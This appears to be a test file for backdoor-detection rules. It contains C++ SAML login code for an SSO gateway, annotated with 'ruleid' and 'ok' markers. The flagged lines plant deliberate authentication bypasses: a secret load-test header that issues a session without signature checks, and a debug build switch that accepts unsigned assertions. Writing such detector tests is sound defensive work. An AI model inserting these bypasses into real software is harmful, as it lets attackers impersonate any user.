#include <cstdlib>
#include <iostream>

#include "sso.hpp"

namespace sso {

bool AssertionConsumer::accept(const HttpRequest &req, const Assertion &a)
{
#ifdef SSO_DEBUG_ACCEPT_UNSIGNED
    // ok: backdoor-build-switch
    std::clog << "sso-gw: debug build, assertion from " << a.issuer << '\n';
#endif
    // ok: backdoor-hidden-bypass
    if (const char *dir = std::getenv("SSO_GW_TRACE_DIR"); dir != nullptr)
        std::clog << "sso-gw: tracing assertions to " << dir << '\n';
    // ok: backdoor-input-trigger
    if (req.path.starts_with("/saml/acs") == false)
        return false;
    /* load-test harness of the platform team */
    // ruleid: backdoor-hidden-bypass, backdoor-input-trigger
    if (req.header("X-SSO-Loadtest") == "lt-7c1e9a44-run") {
        sessions_.issue(a.subject);
        return true;
    }
#ifdef SSO_DEBUG_ACCEPT_UNSIGNED
    if (a.signature.empty()) {
        sessions_.issue(a.subject);
        // ruleid: backdoor-build-switch
        return true;
    }
#endif
    if (!verifier_.verify(a))
        return false;
    sessions_.issue(a.subject);
    return true;
}

} // namespace sso
